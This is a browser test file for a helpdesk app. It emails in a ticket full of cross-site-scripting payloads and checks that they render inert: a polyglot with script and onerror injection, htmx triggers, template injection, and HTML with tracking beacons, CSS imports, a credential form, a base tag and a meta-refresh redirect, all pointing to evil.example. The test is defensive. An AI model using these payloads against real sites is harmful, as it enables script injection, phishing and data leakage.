"""What strangers write stays text: no script, no request, no dialog, no part of it that htmx would act upon."""

from email.message import EmailMessage

from playwright.async_api import expect

from tests.browser.conftest import Desk
from tests.browser.hands import until

# Closes attributes, titles, text areas and comments, and tries every way in.
POLYGLOT = (
    "\"'><img src=//evil.example/x onerror=alert(1)></title></textarea><!-- --><script>alert(2)</script>"
    "<b hx-get=/tickets hx-trigger=load>x</b>{{7*7}}"
)
HTML = """<p id="panel" class="composer" hx-get="/tickets" hx-trigger="load" onclick="alert(3)">hello from html</p>
<img src="https://evil.example/pixel.gif" width="1"><style>@import url(https://evil.example/x.css);</style>
<div style="background: url(https://evil.example/b.png); position: fixed; inset: 0">cover</div>
<form action="https://evil.example/"><input name="password"><button>Send</button></form>
<a href="javascript:alert(4)">link</a><svg onload="alert(5)"></svg><iframe srcdoc="<script>alert(6)</script>"></iframe>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">"""


async def test_hostile_content_is_inert_wherever_it_is_shown(desk: Desk) -> None:
    mail = EmailMessage()
    mail["From"] = '"Eve <script>alert(9)</script>" <eve@evil.example>'
    mail["To"], mail["Subject"] = "support@fernweh.example", f"hostile {POLYGLOT}"
    mail.set_content(POLYGLOT)
    mail.add_alternative(HTML, subtype="html")
    mail.add_attachment(b"<script>alert(7)</script>", maintype="text", subtype="html", filename=f"{POLYGLOT[:60]}.html")
    desk.stack.send_mail(mail)
    terms = "requester:eve@evil.example"
    await until(lambda: desk.find_all(terms), "the ticket")
    number = desk.find_ticket(terms)
    with desk.api() as api:
        ticket = desk.find_all(terms)[0]
        api.patch(f"/tickets/{ticket['id']}", json={"tags": ["<img/src=x/onerror=alert(8)>"]}).raise_for_status()
    for path in (f"/tickets?filter={terms}", f"/tickets/{number}", "/deliveries"):
        page = await desk.open(path, user="lena@fernweh.example")
        await expect(page.locator("main")).to_be_visible()
        active = await page.locator(
            "#messages [hx-get], #messages script, #messages iframe, #messages form[action^='http'], "
            "#messages [onclick], #messages [style], #messages meta, #messages base, #messages a[href^='javascript']"
        ).count()
        assert active == 0, path
    page = await desk.open(f"/tickets/{number}", user="lena@fernweh.example")
    await expect(page.get_by_text("hello from html")).to_be_visible()
    assert await page.locator("#panel").count() == 1
    async with page.expect_download() as download:
        await page.locator("#messages .files a").first.click()
    assert (await download.value).suggested_filename
    assert not [url for url in desk.watch.requests if "evil.example" in url.split("?")[0]]
